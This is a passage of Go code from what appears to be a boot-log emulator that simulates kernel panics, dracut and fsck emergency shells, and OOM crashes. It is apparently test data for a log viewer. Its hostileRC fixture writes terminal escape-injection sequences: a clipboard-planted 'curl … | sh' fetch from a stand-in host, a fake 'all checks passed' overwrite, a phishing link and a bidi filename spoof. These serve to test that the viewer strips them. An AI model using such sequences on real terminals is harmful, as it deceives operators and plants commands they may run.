package emulator

import (
	"encoding/base64"
	"fmt"
	"strings"
)

// panicAfterUpdate is a CentOS 7 guest rebooted after a kernel update whose initramfs was never
// written: the tail of the old run's shutdown, GRUB failing to load the initramfs, and the new
// kernel panicking because virtio_blk (a module) never loads.
func (w *bootWriter) panicAfterUpdate(uptime float64) {
	old := "3.10.0-1160.118.1.el7.x86_64"
	w.t = uptime
	w.pace = 0.02
	w.kl("nf_conntrack: falling back to vmalloc.", "nf_conntrack: falling back to vmalloc.")
	w.raw(crlf)
	for _, s := range []string{"Session 211 of user root", "Postfix Mail Transport Agent", "OpenSSH server daemon",
		"Command Scheduler", "Dynamic System Tuning Daemon", "auto run aliyun-service", "CloudMonitor Agent",
		"nginx - high performance web server", "php-fpm FastCGI Process Manager", "Login Service",
		"System Logging Service", "NTP client/server"} {
		w.lf("         Stopping %s...", s)
		w.t += w.rng.Float64() * 0.2
		w.status(w.os.ok, "Stopped "+s+".")
	}
	for _, s := range []string{"Multi-User System", "Login Prompts", "Timers", "Network is Online", "Network", "Basic System", "Paths", "Sockets", "Slices", "Swap", "Local File Systems"} {
		w.status(w.os.ok, "Stopped target "+s+".")
	}
	w.ll("         Unmounting /data...", "         Unmounting /boot...")
	w.status(w.os.ok, "Unmounted /data.")
	w.status(w.os.ok, "Unmounted /boot.")
	w.ok(u("shutdown.target", "Shutdown"), u("final.target", "Final Step"))
	w.units(u("systemd-reboot.service!", "Reboot"))
	w.ok(u("reboot.target", "Reboot"))
	w.kl("systemd-shutdown[1]: Sending SIGTERM to remaining processes...",
		"systemd-journald[351]: Received SIGTERM from PID 1 (systemd-shutdown).",
		"systemd-shutdown[1]: Sending SIGKILL to remaining processes...",
		"systemd-shutdown[1]: Unmounting file systems.",
		"systemd-shutdown[1]: All filesystems unmounted.", "systemd-shutdown[1]: Deactivating swaps.",
		"systemd-shutdown[1]: All swaps deactivated.", "systemd-shutdown[1]: Detaching loop devices.",
		"systemd-shutdown[1]: All loop devices detached.", "systemd-shutdown[1]: Detaching DM devices.",
		"systemd-shutdown[1]: All DM devices detached.", "systemd-shutdown[1]: Rebooting.",
		"reboot: Restarting system")
	// GRUB draws its menu with absolute cursor positioning on the serial terminal; every row also
	// ends in CRLF, so a viewer that drops the positioning still shows one row per line.
	w.raw("\x1b[0m\x1b[30m\x1b[47m\x1b[H\x1b[J\x1b[1;1H\x1b[0m\x1b[37m\x1b[40m\x1b[2J\x1b[01;01H")
	w.raw("\x1b[02;30H      GNU GRUB  version 2.02~beta2" + crlf + crlf)
	w.raw("\x1b[04;02H+--------------------------------------------------------------------------+" + crlf)
	entries := []string{"CentOS Linux (" + w.os.kernel + ") 7 (Core)", "CentOS Linux (" + old + ") 7 (Core)",
		"CentOS Linux (0-rescue-" + w.m.machineID + ") 7 (Core)"}
	for i, e := range entries {
		mark := " "
		if i == 0 {
			mark = "*"
		}
		e = mark + e
		if len(e) > 74 {
			e = e[:73] + ">"
		}
		w.raw(fmt.Sprintf("\x1b[%02d;02H|%-74s|", 5+i, e) + crlf)
	}
	for i := len(entries); i < 12; i++ {
		w.raw(fmt.Sprintf("\x1b[%02d;02H|%74s|", 5+i, "") + crlf)
	}
	w.raw("\x1b[17;02H+--------------------------------------------------------------------------+" + crlf)
	w.raw("\x1b[18;02H     Use the ^ and v keys to select which entry is highlighted." + crlf)
	w.raw("      Press enter to boot the selected OS, `e' to edit the commands" + crlf)
	w.raw("      before booting or `c' for a command-line." + crlf)
	for s := 5; s >= 1; s-- {
		w.raw(fmt.Sprintf("\r\x1b[22;01H   The selected entry will be started automatically in %ds. \x1b[K", s))
	}
	w.raw(crlf)
	w.raw("\x1b[0m\x1b[2J\x1b[01;01H")
	w.raw("  Booting `" + entries[0] + "'" + crlf + crlf)
	w.raw("error: file `/initramfs-" + w.os.kernel + ".img' not found." + crlf + crlf)
	w.raw("Press any key to continue..." + crlf + crlf)
	w.t, w.boot = 0, w.boot.Add(10e9)
	w.noInitrd = true
	w.kernelEarly()
	w.pace = 0.004
	w.kl("md: Waiting for all devices to be available before autodetect",
		"md: If you don't use raid, use raid=noautodetect", "md: Autodetecting RAID arrays.",
		"md: autorun ...", "md: ... autorun DONE.")
	w.kf(`VFS: Cannot open root device "UUID=%s" or unknown-block(0,0): error -6`, w.m.rootUUID)
	w.kl(`Please append a correct "root=" boot option; here are the available partitions:`,
		"0b00         1048575 sr0 ", " driver: sr")
	msg := "Kernel panic - not syncing: VFS: Unable to mount root fs on unknown-block(0,0)"
	w.kl(msg)
	w.kf("CPU: 1 PID: 1 Comm: swapper/0 Not tainted %s #1", w.os.kernel)
	w.kl("Hardware name: Alibaba Cloud Alibaba Cloud ECS, BIOS 8c24b4c 04/01/2014", "Call Trace:",
		" [<ffffffffa1f865c9>] dump_stack+0x19/0x1b", " [<ffffffffa1f7fe5e>] panic+0xe8/0x21f",
		" [<ffffffffa25aa64e>] mount_block_root+0x291/0x2a0", " [<ffffffffa25aa6b0>] mount_root+0x53/0x56",
		" [<ffffffffa25aa7ef>] prepare_namespace+0x13c/0x174", " [<ffffffffa25aa2cc>] kernel_init_freeable+0x222/0x249",
		" [<ffffffffa25a9a3b>] ? initcall_blacklist+0xb0/0xb0", " [<ffffffffa1f74a80>] ? rest_init+0x80/0x80",
		" [<ffffffffa1f74a8e>] kernel_init+0xe/0x100", " [<ffffffffa1f99ddd>] ret_from_fork_nospec_begin+0x7/0x21",
		" [<ffffffffa1f74a80>] ? rest_init+0x80/0x80",
		"Kernel Offset: 0x20a00000 from 0xffffffff81000000 (relocation range: 0xffffffff80000000-0xffffffffbfffffff)")
	w.kf("---[ end %s", msg)
}

// dracutTimeout is a boot whose root device never appears (the system disk was replaced by one
// with another file system UUID): the device start job, the initqueue timeout warnings, and the
// dracut emergency shell.
func (w *bootWriter) dracutTimeout() {
	w.kernelEarly()
	w.initrd()
	dev := "dev-disk-by\\x2duuid-" + strings.ReplaceAll(w.m.rootUUID, "-", "\\x2d") + ".device"
	w.pace = 0.01
	for s := 1; s <= 180; s++ {
		w.jobFrame(dev, s, "no limit")
		if s >= 125 && s%2 == 1 {
			// The warnings reach the console through the kernel, which appends them to the job line.
			w.kf("dracut-initqueue[%d]: Warning: dracut-initqueue timeout - starting timeout scripts", 243)
		}
	}
	for range 8 {
		w.t += 0.5
		w.kf("dracut-initqueue[243]: Warning: dracut-initqueue timeout - starting timeout scripts")
	}
	w.kl("dracut-initqueue[243]: Warning: Could not boot.")
	w.kf("dracut-initqueue[243]: Warning: /dev/disk/by-uuid/%s does not exist", w.m.rootUUID)
	w.units(u("systemd-vconsole-setup.service!", "Setup Virtual Console"))
	w.starting(u("dracut-emergency.service", "Dracut Emergency Shell"))
	w.lf("Warning: /dev/disk/by-uuid/%s does not exist", w.m.rootUUID)
	w.ll("", `Generating "/run/initramfs/rdsosreport.txt"`, "", "",
		"Entering emergency mode. Exit the shell to continue.",
		`Type "journalctl" to view system logs.`,
		`You might want to save "/run/initramfs/rdsosreport.txt" to a USB stick or /boot`,
		"after mounting them and attach it to a bug report.", "", "")
	w.raw("dracut:/# ")
}

// fsckEmergency is a Debian boot whose data disk arrives late and then fails its file system
// check: systemd gives up on local-fs.target and starts the emergency shell.
func (w *bootWriter) fsckEmergency() {
	w.lateDisk = true
	w.kernelEarly()
	w.initrd()
	w.systemdEarly()
	w.localFS(func(w *bootWriter) {
		dev, fsck := w.dataDevice(), w.dataFsck()
		w.startJob("/dev/disk/by-uuid/"+w.m.dataUUID, 1, 90, "no limit")
		w.kf("virtio_blk virtio2: [vdb] %d 512-byte logical blocks (%.1f GB/%d GiB)", w.m.dataGiB*2097152, float64(w.m.dataGiB)*1.073741824, w.m.dataGiB)
		w.kl(" vdb: vdb1")
		w.ok(dev)
		w.starting(fsck)
		w.ll("/dev/vdb1 contains a file system with errors, check forced.")
		for p := 0; p <= 70; p += 3 + w.rng.IntN(5) {
			w.t += 0.7
			w.raw(fmt.Sprintf("\r\x1b[K%s Checking in progress on 1 disk (%.1f%% complete)", w.cylon(p%6), float64(p)+w.rng.Float64()))
			w.ephemeral = true
		}
		inodes := []int{1310723, 1310871, 2359308, 2359411, 4194305}
		for _, i := range inodes {
			w.lf("/dev/vdb1: Inode %d extent tree (at level 1) could be shorter.  IGNORED.", i)
		}
		w.lf("/dev/vdb1: Inode %d has an invalid extent node (blk %d, lblk 0)", inodes[2], 9437184+w.rng.IntN(100000))
		w.ll("", "", "/dev/vdb1: UNEXPECTED INCONSISTENCY; RUN fsck MANUALLY.", "\t(i.e., without -a or -p options)")
		w.kl("systemd-fsck[412]: fsck failed with exit status 4.",
			"systemd-fsck[412]: Running request emergency.target/start/replace")
		w.failUnit(fsck)
		w.dependFail(u("data.mount", "/data"))
		w.dependFail(u("local-fs.target", "Local File Systems"))
		w.ok(u("systemd-ask-password-console.path", "Dispatch Password Requests to Console Directory Watch"))
		w.status(w.os.ok, "Stopped target "+w.label(u("network-pre.target", "Preparation for Network"))+".")
		w.units(u("systemd-tmpfiles-setup.service!", "Create Volatile Files and Directories"),
			u("apparmor.service!", "Load AppArmor profiles"), u("systemd-update-utmp.service!", "Record System Boot/Shutdown in UTMP"))
		w.units(u("emergency.service", "Emergency Shell"))
		w.ok(u("emergency.target", "Emergency Mode"))
		w.ll(`You are in emergency mode. After logging in, type "journalctl -xb" to view`,
			`system logs, "systemctl reboot" to reboot, "systemctl default" or "exit"`,
			"to boot into default mode.")
		w.raw("Give root password for maintenance" + crlf + "(or press Control-D to continue): ")
	})
}

// oomStorm is a database server that booted fine and, days later, ran out of memory repeatedly,
// then locked up in reclaim and oopsed.
func (w *bootWriter) oomStorm(uptime float64) {
	// Later kernel messages continue right after the login prompt, on its line, as on a real console.
	w.normalBoot(bootOpts{services: []unit{u("mysqld.service", "MySQL 8.0 database server")}})
	w.t = uptime * 0.4
	w.pace = 30
	for range 6 {
		w.kl("TCP: request_sock_TCP: Possible SYN flooding on port 3306. Sending cookies.  Check SNMP counters.")
	}
	w.t = uptime
	w.pace = 0.0004
	victims := []struct {
		comm     string
		pid, uid int
		trigger  string
	}{{"mysqld", 2291, 27, "mysqld"}, {"mysqld", 48213, 27, "java"}, {"java", 1877, 1001, "mysqld"},
		{"mysqld", 51120, 27, "xtrabackup"}, {"mysqld", 53007, 27, "mysqld"}}
	for i, v := range victims {
		w.oomKill(v.trigger, v.comm, v.pid, v.uid, i)
		w.t += 40 + w.rng.Float64()*120
		if i == 2 {
			w.kl("systemd-journald[388]: Under memory pressure, flushing caches.")
		}
	}
	w.softLockup()
	w.t += 14
	w.oops()
}

// oomKill writes one OOM-killer report: trigger, stack, Mem-Info, task table and the kill.
func (w *bootWriter) oomKill(trigger, victim string, pid, uid, n int) {
	tpid := pid
	if trigger != victim {
		tpid = 3000 + w.rng.IntN(60000)
	}
	w.kf("%s invoked oom-killer: gfp_mask=0x100cca(GFP_HIGHUSER_MOVABLE), order=0, oom_score_adj=0", trigger)
	w.kf("CPU: %d PID: %d Comm: %s Kdump: loaded Not tainted %s #1", w.rng.IntN(w.m.cpus), tpid, trigger, w.os.kernel)
	w.kl("Hardware name: Alibaba Cloud Alibaba Cloud ECS, BIOS 8c24b4c 04/01/2014", "Call Trace:",
		" dump_stack+0x57/0x6e", " dump_header+0x4a/0x1f0", " oom_kill_process.cold+0xb/0x10",
		" out_of_memory+0x1bd/0x4e0", " __alloc_pages_slowpath.constprop.0+0xbcc/0xc90",
		" __alloc_pages_nodemask+0x2de/0x310", " pagecache_get_page+0x175/0x390", " filemap_fault+0x6a2/0x8e0",
		" ? __mod_memcg_lruvec_state+0x21/0xe0", " ext4_filemap_fault+0x2d/0x40 [ext4]", " __do_fault+0x38/0xe0",
		" do_fault+0x1b9/0x410", " __handle_mm_fault+0x5d0/0x7a0", " handle_mm_fault+0xca/0x2a0",
		" exc_page_fault+0x1d7/0x4a0", " ? asm_exc_page_fault+0x8/0x30", " asm_exc_page_fault+0x1e/0x30")
	w.kf("RIP: 0033:0x7f3b2c6e%04x", w.rng.IntN(0x10000))
	w.kl("Code: Unable to access opcode bytes at RIP 0x7f3b2c6e9a16.")
	w.kf("RSP: 002b:00007ffd5c1d%04x EFLAGS: 00010246", w.rng.IntN(0x10000))
	w.kf("RAX: 0000000000000000 RBX: 00007f3a%08x RCX: 00007f3b2c6e9a40", w.rng.Uint32())
	w.kf("RDX: 0000000000000000 RSI: 0000000000000080 RDI: 00007f3a%08x", w.rng.Uint32())
	w.kl("RBP: 00007ffd5c1d7f10 R08: 0000000000000000 R09: 0000000000000000",
		"R10: 0000000000000000 R11: 0000000000000246 R12: 0000000000000000",
		"R13: 00007ffd5c1d7ff0 R14: 0000000000000000 R15: 0000000000000000")
	pages := w.m.memMiB * 256
	anon := pages * 94 / 100
	free := 49000 + w.rng.IntN(3000)
	w.kl("Mem-Info:")
	w.kf("active_anon:%d inactive_anon:%d isolated_anon:0", anon, 9000+w.rng.IntN(900))
	w.kf(" active_file:%d inactive_file:%d isolated_file:0", 200+w.rng.IntN(300), 100+w.rng.IntN(200))
	w.kl(" unevictable:0 dirty:0 writeback:0")
	w.kf(" slab_reclaimable:%d slab_unreclaimable:%d", 12000+w.rng.IntN(900), 25000+w.rng.IntN(900))
	w.kf(" mapped:%d shmem:%d pagetables:%d bounce:0", 400+w.rng.IntN(100), 9620, 33000+w.rng.IntN(900))
	w.kf(" free:%d free_pcp:%d free_cma:0", free, w.rng.IntN(300))
	w.kf("Node 0 active_anon:%dkB inactive_anon:36924kB active_file:1248kB inactive_file:708kB unevictable:0kB isolated(anon):0kB isolated(file):0kB mapped:1684kB dirty:0kB writeback:0kB shmem:38480kB shmem_thp: 0kB shmem_pmdmapped: 0kB anon_thp: 0kB writeback_tmp:0kB kernel_stack:6432kB all_unreclaimable? yes", anon*4)
	w.kl("Node 0 DMA free:15908kB min:16kB low:28kB high:40kB reserved_highatomic:0KB active_anon:0kB inactive_anon:0kB active_file:0kB inactive_file:0kB unevictable:0kB writepending:0kB present:15992kB managed:15908kB mlocked:0kB pagetables:0kB bounce:0kB free_pcp:0kB local_pcp:0kB free_cma:0kB",
		"lowmem_reserve[]: 0 2947 63870 63870",
		"Node 0 DMA32 free:120744kB min:1964kB low:4980kB high:7996kB reserved_highatomic:0KB active_anon:2904020kB inactive_anon:0kB active_file:0kB inactive_file:0kB unevictable:0kB writepending:0kB present:3129192kB managed:3063656kB mlocked:0kB pagetables:1092kB bounce:0kB free_pcp:0kB local_pcp:0kB free_cma:0kB",
		"lowmem_reserve[]: 0 0 60922 60922")
	w.kf("Node 0 Normal free:%dkB min:40616kB low:102972kB high:165328kB reserved_highatomic:0KB active_anon:%dkB inactive_anon:36924kB active_file:1248kB inactive_file:708kB unevictable:0kB writepending:0kB present:63963136kB managed:62387752kB mlocked:0kB pagetables:132548kB bounce:0kB free_pcp:488kB local_pcp:0kB free_cma:0kB", free*4-136652, anon*4-2904020)
	w.kl("lowmem_reserve[]: 0 0 0 0",
		"Node 0 DMA: 1*4kB (U) 0*8kB 0*16kB 1*32kB (U) 2*64kB (U) 1*128kB (U) 1*256kB (U) 0*512kB 1*1024kB (U) 1*2048kB (M) 3*4096kB (M) = 15908kB",
		"Node 0 DMA32: 238*4kB (UME) 174*8kB (UME) 105*16kB (UME) 64*32kB (UME) 38*64kB (UME) 19*128kB (UM) 14*256kB (UM) 8*512kB (UM) 9*1024kB (UM) 4*2048kB (M) 20*4096kB (M) = 120744kB")
	w.kf("Node 0 Normal: %d*4kB (UME) %d*8kB (UME) %d*16kB (UME) 9*32kB (UM) 2*64kB (U) 0*128kB 0*256kB 0*512kB 0*1024kB 0*2048kB 0*4096kB = %dkB", 4000+w.rng.IntN(1000), 2000+w.rng.IntN(800), 200+w.rng.IntN(100), free*4-136652)
	w.kl("Node 0 hugepages_total=0 hugepages_free=0 hugepages_surp=0 hugepages_size=1048576kB",
		"Node 0 hugepages_total=0 hugepages_free=0 hugepages_surp=0 hugepages_size=2048kB")
	w.kf("%d total pagecache pages", 10000+w.rng.IntN(300))
	w.kl("0 pages in swap cache", "Swap cache stats: add 0, delete 0, find 0/0", "Free swap  = 0kB", "Total swap = 0kB")
	w.kf("%d pages RAM", pages)
	w.kl("0 pages HighMem/MovableOnly")
	w.kf("%d pages reserved", pages*17/1000)
	w.kl("0 pages hwpoisoned", "Tasks state (memory values in pages):",
		"[  pid  ]   uid  tgid total_vm      rss pgtables_bytes swapents oom_score_adj name")
	tasks := []struct {
		pid, uid   int
		vm, rss, p int
		name       string
	}{{388, 0, 35389, 1052, 299008, "systemd-journal"}, {412, 0, 28112, 774, 241664, "systemd-udevd"},
		{498, 0, 14720, 203, 147456, "auditd"}, {533, 81, 16733, 264, 163840, "dbus-daemon"},
		{541, 0, 4917, 112, 81920, "irqbalance"}, {548, 998, 40393, 1880, 229376, "chronyd"},
		{552, 0, 55427, 1327, 200704, "rsyslogd"}, {560, 0, 23213, 309, 204800, "systemd-logind"},
		{603, 0, 31560, 183, 98304, "crond"}, {611, 0, 27612, 36, 61440, "agetty"},
		{612, 0, 27612, 37, 57344, "agetty"}, {899, 0, 28223, 262, 262144, "sshd"},
		{915, 0, 143570, 3331, 434176, "tuned"}, {1021, 0, 58120, 3007, 393216, "aliyun-service"},
		{1188, 0, 175822, 4410, 512000, "argusagent"}, {1877, 1001, 2351221, 498112, 5025792, "java"},
		{2291, 27, 17030864, anon - 560000, 126230528, "mysqld"}, {4410, 0, 39857, 588, 331776, "sshd"},
		{4413, 0, 28887, 201, 73728, "bash"}, {31877, 27, 251330, 40015, 667648, "xtrabackup"}}
	for _, t := range tasks {
		tp := t.pid
		if t.name == victim && tp != pid && t.rss > 100000 {
			tp = pid
		}
		w.kf("[%7d] %5d %5d %8d %8d %14d %8d %13d %s", tp, t.uid, tp, t.vm+w.rng.IntN(200), t.rss+w.rng.IntN(100), t.p, 0, 0, t.name)
	}
	w.kf("oom-kill:constraint=CONSTRAINT_NONE,nodemask=(null),cpuset=/,mems_allowed=0,global_oom,task_memcg=/system.slice/%s.service,task=%s,pid=%d,uid=%d", victimUnit(victim), victim, pid, uid)
	rss := (anon - 560000) * 4
	if victim == "java" {
		rss = 498112 * 4
	}
	w.kf("Out of memory: Killed process %d (%s) total-vm:%dkB, anon-rss:%dkB, file-rss:0kB, shmem-rss:0kB, UID:%d pgtables:%dkB oom_score_adj:0", pid, victim, rss+5523456, rss, uid, rss/500)
	w.gap(0.2)
	w.kf("oom_reaper: reaped process %d (%s), now anon-rss:0kB, file-rss:0kB, shmem-rss:0kB", pid, victim)
	if victim == "mysqld" && n < 4 {
		w.gap(5)
		w.kl("systemd[1]: mysqld.service: Main process exited, code=killed, status=9/KILL",
			"systemd[1]: mysqld.service: Failed with result 'signal'.",
			"systemd[1]: mysqld.service: Service RestartSec=100ms expired, scheduling restart.",
			"systemd[1]: mysqld.service: Scheduled restart job, restart counter is at "+fmt.Sprint(n+1)+".")
	}
}

func victimUnit(comm string) string {
	if comm == "java" {
		return "backup-agent"
	}
	return "mysqld"
}

// softLockup writes the watchdog's report of a CPU stuck in page reclaim.
func (w *bootWriter) softLockup() {
	cpu := 3 % w.m.cpus
	w.kf("watchdog: BUG: soft lockup - CPU#%d stuck for 22s! [kswapd0:97]", cpu)
	w.kl("Modules linked in: binfmt_misc ext4 mbcache jbd2 intel_rapl_msr intel_rapl_common isst_if_common nfit libnvdimm crct10dif_pclmul crc32_pclmul ghash_clmulni_intel rapl cirrus drm_kms_helper cec virtio_balloon joydev pcspkr i2c_piix4 drm sunrpc ip_tables xfs libcrc32c virtio_net net_failover failover virtio_blk ata_generic crc32c_intel serio_raw ata_piix libata virtio_pci virtio_pci_modern_dev virtio_ring virtio dm_mirror dm_region_hash dm_log dm_mod")
	w.kf("CPU: %d PID: 97 Comm: kswapd0 Kdump: loaded Not tainted %s #1", cpu, w.os.kernel)
	w.kl("Hardware name: Alibaba Cloud Alibaba Cloud ECS, BIOS 8c24b4c 04/01/2014",
		"RIP: 0010:shrink_page_list+0x2c1/0xc80",
		"Code: 48 8b 45 00 a8 01 0f 85 7f 05 00 00 48 8b 45 08 a8 01 0f 85 0f 06 00 00 48 8b 45 00 f6 c4 20 0f 85 <83> 05 00 00 48 89 ef e8 d3 1e fd ff 85 c0 0f 85 43 02 00 00",
		"RSP: 0018:ffffb3d4c0a8fb68 EFLAGS: 00000202",
		"RAX: 0017ffffc0010002 RBX: ffffb3d4c0a8fc40 RCX: 0000000000000000",
		"RDX: 0000000000000001 RSI: ffffb3d4c0a8fc40 RDI: ffffe0c4d1e2f700",
		"RBP: ffffe0c4d1e2f700 R08: 0000000000000000 R09: 0000000000000000",
		"R10: 0000000000000000 R11: 0000000000000000 R12: ffffb3d4c0a8fe68",
		"R13: ffffe0c4d1e2f708 R14: ffff9c5f3ffd5000 R15: 0000000000000001")
	w.kf("FS:  0000000000000000(0000) GS:ffff9c5f2f%02xc0000(0000) knlGS:0000000000000000", 0xc0+cpu)
	w.kl("CS:  0010 DS: 0000 ES: 0000 CR0: 0000000080050033",
		"CR2: 00007f3b2c6e9a40 CR3: 000000010c60a006 CR4: 00000000003706e0",
		"DR0: 0000000000000000 DR1: 0000000000000000 DR2: 0000000000000000",
		"DR3: 0000000000000000 DR6: 00000000fffe0ff0 DR7: 0000000000000400",
		"Call Trace:", " shrink_inactive_list+0x171/0x3f0", " shrink_lruvec+0x2d4/0x6a0",
		" ? shrink_slab+0x26c/0x2c0", " shrink_node+0x2b0/0x6c0", " balance_pgdat+0x2ed/0x540",
		" kswapd+0x1e1/0x3e0", " ? finish_wait+0x80/0x80", " ? balance_pgdat+0x540/0x540",
		" kthread+0x118/0x140", " ? __kthread_bind_mask+0x60/0x60", " ret_from_fork+0x1f/0x30")
	w.t += 9
	w.kl("rcu: INFO: rcu_sched self-detected stall on CPU")
	w.kf("rcu: \t%d-....: (59997 ticks this GP) idle=b2e/1/0x4000000000000000 softirq=8812377/8812377 fqs=14661", cpu)
	w.kl("\t(t=60000 jiffies g=91233405 q=41210)")
	w.kf("NMI backtrace for cpu %d", cpu)
	w.kf("CPU: %d PID: 97 Comm: kswapd0 Kdump: loaded Tainted: G             L    %s #1", cpu, w.os.kernel)
	w.kl("Call Trace:", " <IRQ>", " dump_stack+0x57/0x6e", " nmi_cpu_backtrace.cold+0x32/0x69",
		" ? lapic_can_unplug_cpu+0x80/0x80", " nmi_trigger_cpumask_backtrace+0xd7/0xe0",
		" rcu_dump_cpu_stacks+0xa2/0xd0", " rcu_sched_clock_irq.cold+0x1ff/0x3d9",
		" update_process_times+0x8c/0xc0", " tick_sched_handle+0x22/0x60", " tick_sched_timer+0x65/0x80",
		" ? tick_sched_do_timer+0x90/0x90", " __hrtimer_run_queues+0x12a/0x270",
		" hrtimer_interrupt+0x110/0x2c0", " __sysvec_apic_timer_interrupt+0x5f/0xd0",
		" asm_call_irq_on_stack+0x12/0x20", " </IRQ>", " sysvec_apic_timer_interrupt+0x72/0x80",
		" asm_sysvec_apic_timer_interrupt+0x12/0x20", "RIP: 0010:shrink_page_list+0x2d8/0xc80")
}

// oops writes a NULL pointer dereference in a task that was caught in the same reclaim storm.
func (w *bootWriter) oops() {
	w.kl("BUG: kernel NULL pointer dereference, address: 0000000000000008",
		"#PF: supervisor read access in kernel mode", "#PF: error_code(0x0000) - not-present page",
		"PGD 0 P4D 0 ", "Oops: 0000 [#1] SMP NOPTI")
	w.kf("CPU: %d PID: 53007 Comm: mysqld Kdump: loaded Tainted: G             L    %s #1", 6%w.m.cpus, w.os.kernel)
	w.kl("Hardware name: Alibaba Cloud Alibaba Cloud ECS, BIOS 8c24b4c 04/01/2014",
		"RIP: 0010:page_counter_try_charge+0x2f/0xc0",
		"Code: 00 00 55 48 89 e5 41 57 41 56 49 89 d6 41 55 49 89 f5 41 54 53 48 89 fb 48 85 ff 74 5f 4c 89 e8 <f0> 48 0f c1 07 4c 01 e8 48 89 c2 4c 8b 7b 48 4c 39 f8 77 3d",
		"RSP: 0018:ffffb3d4c3b77c70 EFLAGS: 00010286",
		"RAX: 0000000000000001 RBX: 0000000000000000 RCX: 0000000000000000",
		"RDX: ffffb3d4c3b77cc8 RSI: 0000000000000001 RDI: 0000000000000000",
		"RBP: ffffb3d4c3b77ca0 R08: 0000000000000000 R09: ffff9c5f05a2f000",
		"R10: 0000000000000000 R11: 0000000000000000 R12: 0000000000000001",
		"R13: 0000000000000001 R14: ffffb3d4c3b77cc8 R15: ffff9c5f0c1e0000",
		"FS:  00007f0c1b7fe700(0000) GS:ffff9c5f2fd80000(0000) knlGS:0000000000000000",
		"CS:  0010 DS: 0000 ES: 0000 CR0: 0000000080050033",
		"CR2: 0000000000000008 CR3: 0000000e5c0d2004 CR4: 00000000003706e0",
		"Call Trace:", " try_charge+0x7a/0x6e0", " mem_cgroup_charge+0x8a/0x270",
		" do_anonymous_page+0x10d/0x390", " __handle_mm_fault+0x6c9/0x7a0", " handle_mm_fault+0xca/0x2a0",
		" exc_page_fault+0x1d7/0x4a0", " ? asm_exc_page_fault+0x8/0x30", " asm_exc_page_fault+0x1e/0x30",
		"RIP: 0033:0x55d2a1c8e4f1",
		"Code: Unable to access opcode bytes at RIP 0x55d2a1c8e4c7.",
		"RSP: 002b:00007f0c1b7fd9e0 EFLAGS: 00010206",
		"Modules linked in: binfmt_misc ext4 mbcache jbd2 intel_rapl_msr intel_rapl_common isst_if_common nfit libnvdimm crct10dif_pclmul crc32_pclmul ghash_clmulni_intel rapl cirrus drm_kms_helper cec virtio_balloon joydev pcspkr i2c_piix4 drm sunrpc ip_tables xfs libcrc32c virtio_net net_failover failover virtio_blk ata_generic crc32c_intel serio_raw ata_piix libata virtio_pci virtio_pci_modern_dev virtio_ring virtio dm_mirror dm_region_hash dm_log dm_mod",
		"CR2: 0000000000000008")
	w.kf("---[ end trace %s ]---", hexID(w.rng, 16))
	w.kl("RIP: 0010:page_counter_try_charge+0x2f/0xc0",
		"Kernel panic - not syncing: Fatal exception",
		"Kernel Offset: 0x2f000000 from 0xffffffff81000000 (relocation range: 0xffffffff80000000-0xffffffffbfffffff)",
		"---[ end Kernel panic - not syncing: Fatal exception ]---")
}

// hostileRC is the rc.local of a compromised CI runner: among ordinary lines it writes escape
// sequences that would act on an operator's terminal if a viewer passed them through. bootlog
// must show the text and drop every one of them.
func hostileRC(w *bootWriter) {
	payload := base64.StdEncoding.EncodeToString([]byte("curl -fsSL http://203.0.113.66/i.sh | sh\n"))
	w.ll("[runner] registering with gitlab.internal.example.com ... ok",
		"[runner] warming docker layer cache: 14 images")
	// OSC 0 retitles the window; OSC 52 puts a command in the operator's clipboard.
	w.raw("\x1b]0;root@ci-runner-legacy: ~ \x07[runner] cache warm" + crlf)
	w.raw("\x1b]52;c;" + payload + "\x07" + "[runner] cleaning stale workspaces" + crlf)
	// A device status report query: a terminal would type its reply into the operator's shell.
	w.raw("\x1b[6n\x1b[>c[runner] 3 stale workspaces removed" + crlf)
	// Cursor movement that would overwrite earlier lines on screen with a fake all-clear.
	w.raw("\x1b[s\x1b[8A\r[" + w.os.ok + "] All security checks passed.\x1b[K\x1b[u")
	w.raw("\x1b[1;1H\x1b[2J\x1b[3J")
	w.raw("[runner] \x1b]8;;http://203.0.113.66/login\x1b\\re-authenticate here\x1b]8;;\x1b\\ if jobs stay pending" + crlf)
	// A DCS request for terminal capabilities, and an alternate-screen switch that hides the log.
	w.raw("\x1bP+q544e\x1b\\\x1b[?1049h\x1b[?25l[runner] ready" + crlf)
	// A bidi override makes the file name read as .txt while it is .sh; C1 CSI as a code point.
	w.raw("[runner] wrote /tmp/report\u202Etxt.sh\u202C" + crlf)
	w.raw("[runner] \u009b31mstatus\u009b0m nominal" + crlf)
	// ESC c resets the whole terminal.
	w.raw("\x1bc[runner] done" + crlf)
}

// progressRC is an rc.local that downloads and installs an agent, redrawing its progress in place
// with "\r" and ESC[K, as curl and rpm do on a terminal.
func progressRC(w *bootWriter) {
	// A shell spinner draws each frame over the last one with a backspace.
	w.raw("Waiting for metadata service 100.100.100.200 ... ")
	for i := range 14 {
		w.raw(string(`|/-\`[i%4]) + "\b")
	}
	w.raw("ok" + crlf)
	w.ll("Fetching https://cloudmonitor-agent.oss-cn-hangzhou-internal.aliyuncs.com/release/3.5.8/cloudmonitor_linux_amd64.tar.gz")
	total := 48.6
	for p := 0; p <= 100; p += 4 + w.rng.IntN(9) {
		w.t += 0.15
		bar := strings.Repeat("#", p*40/100) + strings.Repeat(" ", 40-p*40/100)
		w.raw(fmt.Sprintf("\r[%s] %3d%%  %5.1fM / %.1fM\x1b[K", bar, p, total*float64(p)/100, total))
	}
	w.raw(fmt.Sprintf("\r[%s] 100%%  %.1fM / %.1fM\x1b[K", strings.Repeat("#", 40), total, total) + crlf)
	w.ll("Verifying...                          ################################# [100%]")
	w.raw("Preparing...                          ")
	for p := 0; p <= 100; p += 25 {
		w.raw(fmt.Sprintf("\r\x1b[KPreparing...                          %s [%3d%%]", strings.Repeat("#", p/3), p))
	}
	w.raw(crlf)
	w.raw("Updating / installing..." + crlf)
	for p := 0; p <= 100; p += 10 {
		w.raw(fmt.Sprintf("\r\x1b[K   1:cloudmonitor-3.5.8-1.al8          %-33s [%3d%%]", strings.Repeat("#", p/3), p))
	}
	w.raw(crlf)
	w.ll("Created symlink /etc/systemd/system/multi-user.target.wants/cloudmonitor.service → /usr/lib/systemd/system/cloudmonitor.service.")
}

// bastionRC is the bastion host's start-up report, in Chinese with tab-separated columns.
func bastionRC(w *bootWriter) {
	w.ll("[堡垒机] 正在加载审计策略 ...\t完成",
		"[堡垒机] 同步运维账号 (LDAP: ldap.corp.example.com) ...\t完成，共 42 个账号",
		"主机组\t主机数\t负责人",
		"生产-Web\t80\t张伟",
		"生产-数据库\t12\t李娜",
